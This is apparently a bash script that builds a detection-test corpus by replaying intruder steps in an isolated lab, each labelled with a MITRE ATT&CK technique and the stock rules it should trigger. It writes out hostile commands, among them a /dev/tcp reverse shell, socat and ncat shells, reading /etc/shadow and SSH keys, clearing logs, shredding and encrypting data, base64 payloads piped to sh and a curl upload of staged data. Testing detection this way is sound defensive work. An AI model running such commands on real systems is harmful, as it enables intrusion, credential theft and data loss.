#!/usr/bin/env bash
# Records corpora/attacks: steps of an intruder, each labelled with its MITRE ATT&CK technique and the
# stock rules that it is meant to trip, or none. All of it is harmless, stays on the loopback interface
# and in a lab (lab.sh). Servers (httpd, nginx, apache2, postgres, sshd) and what an intruder brings
# along (xmrig, pkexec, sudo) are links to perl.
#
# Debian packages: perl socat ncat netcat-traditional nmap strace cron openssh-client openssl curl
# busybox-static
. "$(dirname "$0")/lab.sh"
need perl socat ncat nmap strace crontab ssh openssl curl busybox
isolate "$@"

prepare() {
  nsenter --target "$LAB_ROOT_PID" --mount -- /bin/bash -e <<'END'
mkdir -p /srv/app/bin /srv/app/data /srv/www /home/admin/.ssh /home/admin/.aws
for name in httpd nginx apache2 postgres sshd xmrig pkexec sudo auditd; do
  ln -s /usr/bin/perl "/srv/app/bin/$name"
done
ssh-keygen -q -t ed25519 -N '' -C admin -f /home/admin/.ssh/id_ed25519
printf '[default]\nregion = none\n' >/home/admin/.aws/credentials
echo 'ls -la' >/home/admin/.bash_history
cp /home/admin/.bash_history /root/.bash_history
touch /root/.bashrc
seq 20000 >/srv/app/data/customers.csv
seq 100 >/srv/app/data/accounts.csv
echo 'Nov 24 sshd: session opened' >/var/log/auth.log
mkdir -p /etc/apt/sources.list.d
END
}

# step NAME TECHNIQUE [RULE]…: runs what stands on standard input, as a script in the lab, labelled.
step() {
  local name=$1 technique=$2 aims=() rule
  shift 2
  for rule in "$@"; do aims+=(--aim "$rule"); done
  nsenter --target "$LAB_ROOT_PID" --mount -- tee "/opt/steps/$name.sh" >/dev/null
  "$recorder" mark "$name" --technique "$technique" "${aims[@]}" --labels "$LAB_LABELS" \
    -- ./in-lab /bin/bash "/opt/steps/$name.sh" >/dev/null 2>&1 </dev/null || true
  sleep 0.1
}

cd "$scripts"
begin attacks

# --- what stock rules see --------------------------------------------------------------------------

step web-shell T1505.003 'Run shell untrusted' 'Web Server Spawned Shell' <<'E'
/srv/app/bin/httpd -e 'system("/bin/sh", "-c", "id; uname -a")'
E
step web-command T1505.003 'Web Server Spawned Suspicious Child Process' <<'E'
/srv/app/bin/nginx -e 'system("/usr/bin/whoami"); system("/usr/bin/uname", "-r")'
E
step web-reverse-shell T1059.004 'Reverse Shell from Web Server' <<'E'
timeout 6 nc -l -p 4445 -s 127.0.0.1 <<<'id' & sleep 1
/srv/app/bin/apache2 -e 'system("/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4445 0>&1")' & sleep 0.5
kill %1 %2; true
E
step database-command T1190 'DB program spawned process' <<'E'
/srv/app/bin/postgres -e 'system("/bin/sh", "-c", "id")'
E
step socat-shell T1059.004 'Netcat/Socat Remote Code Execution on Host' <<'E'
timeout 6 nc -l -p 4446 -s 127.0.0.1 <<<'id' & sleep 1
timeout 2 socat TCP:127.0.0.1:4446 EXEC:/bin/sh & sleep 0.5
kill %1 %2; true
E
step ncat-shell T1059.004 'Netcat/Socat Remote Code Execution on Host' <<'E'
timeout 6 nc -l -p 4447 -s 127.0.0.1 & sleep 1
timeout 2 ncat --sh-exec id 127.0.0.1 4447
kill %1; true
E
step netcat-tool T1095 'Launch Suspicious Network Tool on Host' <<'E'
nc -z 127.0.0.1 22; true
E
step port-scan T1046 'Launch Suspicious Network Tool on Host' <<'E'
nmap -n -Pn -sT -p 20-30 127.0.0.1
E
step fileless-program T1620 'Fileless execution via memfd_create' <<'E'
perl -e 'my $n = "cache"; my $fd = syscall(319, $n, 0); open my $in, "<", "/bin/true"; local $/; my $p = <$in>;
  open my $out, ">&=", $fd; syswrite $out, $p; exec "/proc/self/fd/$fd", "worker"'
E
step shared-memory-program T1036.005 'Execution from /dev/shm' <<'E'
cp /bin/true /dev/shm/update; /dev/shm/update; rm /dev/shm/update
E
step file-below-dev T1564.001 'Create files below dev' <<'E'
cp /etc/hostname /dev/ttx; rm /dev/ttx
E
step miner T1496 'Known Cryptominer Process Executed' <<'E'
/srv/app/bin/xmrig -e 'print "hashing\n"'
E
step miner-pool-address T1496 'Detect crypto miners using the Stratum protocol' <<'E'
/srv/app/bin/auditd -e 1 stratum+tcp://127.0.0.1:3333
E
step who-am-i-by-hand T1033 'Basic Interactive Reconnaissance' <<'E'
TERM=dumb script -qec "/bin/bash -mc 'whoami; id; uname -a; who'" /dev/null
E
step shadow-file T1003.008 'Read sensitive file untrusted' <<'E'
perl -e 'open my $in, "<", "/etc/shadow"; print scalar <$in>'
E
step shadow-file-by-server T1003.008 'Read sensitive file trusted after startup' <<'E'
/srv/app/bin/httpd -e 'sleep 6; open my $in, "<", "/etc/shadow"'
E
step shadow-file-by-traversal T1006 'Directory traversal monitored file read' <<'E'
timeout 2 /srv/app/bin/nginx -e 'system("/usr/bin/head", "-c1", "/srv/www/../../etc/passwd")'
E
step private-keys T1552.004 'Search Private Keys or Passwords' <<'E'
find /home /root -name id_rsa -o -name id_ed25519
E
step private-key-stolen T1552.004 'Read ssh information' <<'E'
cp /home/admin/.ssh/id_ed25519 /tmp/k
E
step cloud-credentials T1552.001 'Find AWS Credentials' <<'E'
grep -rl aws_secret_access_key /home; find /home -path '*/.aws/credentials'
E
step trace-a-process T1055.008 'PTRACE attached to process' <<'E'
sleep 5 & timeout 1 strace -o /dev/null -p $!; kill %1; true
E
step are-we-traced T1622 'PTRACE anti-debug attempt' <<'E'
perl -e 'syscall(101, 0, 0, 0, 0)'
E
step cron-job T1053.003 'Schedule Cron Jobs' <<'E'
cp /dev/null /etc/cron.d/backup-check; crontab -l
E
step authorized-key T1098.004 'Adding ssh keys to authorized_keys' <<'E'
cat /home/admin/.ssh/id_ed25519.pub | tee -a /home/admin/.ssh/authorized_keys
E
step login-script T1546.004 'Modify Shell Configuration File' <<'E'
perl -e 'open my $out, ">>", "/root/.bashrc"; print $out ": # here to stay\n"'
E
step loader-preload T1574.006 'Write below etc' <<'E'
perl -e 'open my $out, ">", "/etc/ld.so.preload"; close $out; unlink "/etc/ld.so.preload"'
E
step program-replaced T1554 'Write below binary dir' <<'E'
cp /bin/true /usr/bin/update-check
E
step program-renamed T1036.003 'Modify binary dirs' <<'E'
mv /usr/bin/update-check /usr/bin/update-checker
E
step hidden-folder T1564.001 'Mkdir binary dirs' 'Create Hidden Files or Directories' <<'E'
mkdir /usr/bin/.cache
E
step new-account T1136.001 'User mgmt binaries' <<'E'
useradd -M backup2
E
step tool-in-root T1105 'Write below root' <<'E'
cp /bin/true /root/updater
E
step library-planted T1574 'Write below monitored dir' <<'E'
cp /bin/true /usr/lib/libcheck.so
E
step setuid-shell T1548.001 'Set Setuid or Setgid bit' <<'E'
cp /bin/true /tmp/helper; chmod 4755 /tmp/helper
E
step symlink-to-secrets T1555 'Create Symlink Over Sensitive Files' <<'E'
ln -s /etc/shadow /tmp/notes
E
step hardlink-to-secrets T1555 'Create Hardlink Over Sensitive Files' <<'E'
ln /etc/shadow /etc/notes; rm -f /etc/notes
E
step logs-cleared T1070.002 'Clear Log Activities' <<'E'
: >/var/log/auth.log
E
step history-deleted T1070.003 'Delete or rename shell history' <<'E'
rm /root/.bash_history
E
step data-destroyed T1485 'Remove Bulk Data from Disk' <<'E'
shred -n 1 -u /srv/app/data/accounts.csv
E
step kernel-program T1014 'BPF Program Not Profiled' <<'E'
perl -e 'syscall(321, 5, 0, 0)'
E
step other-namespace T1611 'Change thread namespace' <<'E'
perl -e 'open my $ns, "<", "/proc/self/ns/uts"; syscall(308, fileno $ns, 0)'
E
step page-fault-trap T1068 'Unprivileged Delegation of Page Faults Handling to a Userspace Process' <<'E'
setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'syscall(323, 1)'
E
step loader-tunables T1068 'Potential Local Privilege Escalation via Environment Variables Misuse' <<'E'
GLIBC_TUNABLES=glibc.malloc.check=0 /bin/true
E
step pkexec-without-arguments T1068 'Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)' <<'E'
/srv/app/bin/pkexec </dev/null
E
step sudo-backslash T1068 'Sudo Potential Privilege Escalation' <<'E'
/srv/app/bin/sudo -s '\'
E
step become-another T1548 'Non sudo setuid' <<'E'
setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'syscall(105, 0)'
E
step package-source T1195.002 'Update Package Repository' <<'E'
cp /dev/null /etc/apt/sources.list.d/mirror.list
E
step shell-of-a-service T1078 'System user interactive' <<'E'
/srv/app/bin/sshd -e '$) = 33; $( = 33; $> = 33; $< = 33; system("/bin/bash", "-c", "true")'
E
step script-talks T1071.001 'Interpreted procs outbound network activity' <<'E'
timeout 6 socat TCP-LISTEN:8082,bind=198.51.100.7,reuseaddr /dev/null & sleep 1
perl -MIO::Socket::INET -e 'for (1..30) { last if IO::Socket::INET->new("198.51.100.7:8082"); select undef, undef, undef, 0.1 }'; kill %1; true
E
step odd-udp T1048 'Unexpected UDP Traffic' <<'E'
echo data | timeout 1 socat -u - UDP:198.51.100.7:9999; true
E
step ssh-elsewhere T1571 'Disallowed SSH Connection Non Standard Port' <<'E'
timeout 6 socat TCP-LISTEN:4444,bind=198.51.100.7,reuseaddr /dev/null & sleep 1
timeout 3 /usr/bin/ssh -F none -o BatchMode=yes -p 4444 admin@198.51.100.7 true; kill %1; true
E
step proxy-forced T1090 'Program run with disallowed http proxy env' <<'E'
HTTP_PROXY=http://127.0.0.1:1 curl -s -m 1 http://127.0.0.1:1/; true
E

# --- what no stock rule sees -----------------------------------------------------------------------

step data-staged T1560.001 <<'E'
tar -C /srv/app -czf /tmp/stage.tgz data
E
step data-in-pieces T1030 <<'E'
split -b 10k /tmp/stage.tgz /tmp/piece-
E
step data-sent T1041 <<'E'
timeout 8 busybox httpd -f -p 127.0.0.1:8088 -h /srv/www & sleep 1
timeout 3 curl -s -m 2 -T /tmp/stage.tgz http://127.0.0.1:8088/up; kill %1; true
E
step data-encrypted T1486 <<'E'
openssl enc -aes-256-ctr -pbkdf2 -k pass -in /srv/app/data/customers.csv -out /srv/app/data/customers.locked
rm /srv/app/data/customers.csv
E
step time-stamps-forged T1070.006 <<'E'
cp /bin/true /tmp/tool; touch -d '2020-01-01 12:00' /tmp/tool
E
step traces-removed T1070.004 <<'E'
rm -f /tmp/tool /tmp/piece-* /tmp/stage.tgz
E
step processes-listed T1057 <<'E'
ps -eo pid,comm >/dev/null
E
step accounts-listed T1087.001 <<'E'
cut -d: -f1 /etc/passwd; getent group
E
step network-listed T1016 <<'E'
ip -brief address; cat /proc/net/route
E
step kernel-thread-name T1036.004 <<'E'
(exec -a '[kworker/1:2]' sleep 0.2)
E
step guard-killed T1562.001 <<'E'
/srv/app/bin/auditd -e 'sleep 30' & sleep 0.2; kill -KILL $!; wait
E
step payload-decoded T1140 <<'E'
echo aWQgLXUK | base64 -d | sh
E
step payload-dropped T1222.002 <<'E'
printf '#!/bin/sh\nid -u\n' >/tmp/update; chmod 755 /tmp/update; /tmp/update
E
step library-preloaded T1574.006 <<'E'
cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/hook.so; LD_PRELOAD=/tmp/hook.so /bin/true
E
step user-namespace T1611 <<'E'
unshare --user --map-root-user true
E
step memory-of-another T1003.007 <<'E'
sleep 5 & perl -e 'syscall(310, $ARGV[0] + 0, 0, 0, 0, 0, 0)' $!; head -c1 /proc/$!/environ; kill %1; true
E

finish
